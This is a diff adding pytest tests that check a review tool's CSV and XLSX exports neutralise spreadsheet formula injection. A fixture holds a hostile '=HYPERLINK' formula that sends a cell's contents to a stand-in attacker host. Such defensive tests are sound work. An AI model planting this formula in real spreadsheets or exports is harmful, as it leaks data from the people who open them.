@@ -1,0 +1,47 @@
+"""Exports neutralise formula text (OWASP CSV injection; issue 8): an imported title such as
+``=HYPERLINK(...)`` must not become a live formula in the CSV or XLSX export."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pandas as pd
+from openpyxl import load_workbook
+
+from metareview.cells import neutralise
+from metareview.records.export import export_records
+from metareview.records.importer import import_file
+from metareview.report.tables import write_tables
+from metareview.review import Review
+
+HOSTILE = '=HYPERLINK("http://evil.example/"&A1)'
+
+
+def test_neutralise_each_formula_start() -> None:
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert neutralise(start + "x") == "'" + start + "x"
+    assert neutralise("plain") == "plain" and neutralise(-1.5) == -1.5
+
+
+def test_record_exports_neutralise_formulas(tmp_path: Path) -> None:
+    review = Review.init(tmp_path / "rev")
+    src = tmp_path / "in.csv"
+    pd.DataFrame({"Title": [HOSTILE, "@SUM(1)"], "Year": [2001, 2002]}).to_csv(src, index=False)
+    import_file(review, src, "Scopus")
+    export_records(review, tmp_path / "out.csv")
+    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
+    export_records(review, tmp_path / "out.xlsx")
+    sheet = load_workbook(tmp_path / "out.xlsx").active
+    titles = [c.value for c in next(sheet.iter_cols(min_col=9, max_col=9))]
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert any(v == "'" + HOSTILE for v in (c.value for c in cells)), titles
+
+
+def test_report_tables_neutralise_formulas(tmp_path: Path) -> None:
+    files = write_tables({"t": pd.DataFrame({"name": [HOSTILE], "yi": [-0.5]})}, tmp_path)
+    assert "'=HYPERLINK" in files.csv["t"].read_text(encoding="utf-8")
+    sheet = load_workbook(files.workbook).active
+    assert sheet["A2"].value == "'" + HOSTILE and sheet["A2"].data_type != "f"
+    assert sheet["B2"].value == -0.5
